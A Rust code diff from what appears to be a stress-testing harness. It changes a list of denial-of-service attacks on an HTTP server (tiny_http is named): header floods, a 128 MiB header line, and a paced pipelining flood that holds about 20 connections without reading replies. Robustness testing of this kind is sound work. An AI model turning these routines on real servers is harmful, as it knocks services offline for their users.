@@ -1,7 +1,7 @@
 //! The attacks, each until it is told to end. One thread for each, which waits for no answer.
 
 use std::collections::VecDeque;
-use std::io::{Read, Write};
+use std::io::{ErrorKind, Read, Write};
 use std::net::{Ipv4Addr, SocketAddr, TcpStream};
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::{Duration, Instant};
@@ -75,7 +75,7 @@ impl Target {
                         *sent += length;
                         *sent < most
                     }
-                    Err(error) => error.kind() == std::io::ErrorKind::WouldBlock,
+                    Err(error) => error.kind() == ErrorKind::WouldBlock,
                 },
             );
             if streams.len() < connections {
@@ -132,8 +132,22 @@ pub const ALL: &[(&str, Attack)] = &[
             request_with(&format!("Expect: {expected}\r\nContent-Length: 5\r\n")).into_bytes()
         });
     }),
+    // 20,000 requests a second: without a limit tiny_http reads them on all processors, before everyone else's.
     ("pipelining without reading", |target| {
-        target.stream(20, "", request_with("").repeat(100).as_bytes(), usize::MAX);
+        let requests = request_with("").repeat(100);
+        let mut streams: VecDeque<TcpStream> = VecDeque::new();
+        target.pace(200, |_| {
+            if streams.len() < 20 {
+                streams.extend(target.connect());
+            }
+            let Some(mut stream) = streams.pop_front() else {
+                return;
+            };
+            let is_open = stream
+                .write(requests.as_bytes())
+                .map_or_else(|error| error.kind() == ErrorKind::WouldBlock, |_| true);
+            streams.extend(is_open.then_some(stream));
+        });
     }),
     ("128 MiB in one header line", |target| {
         target.stream(2, "GET / HTTP/1.1\r\nX: ", &[b'x'; 256 << 10], 128 << 20);
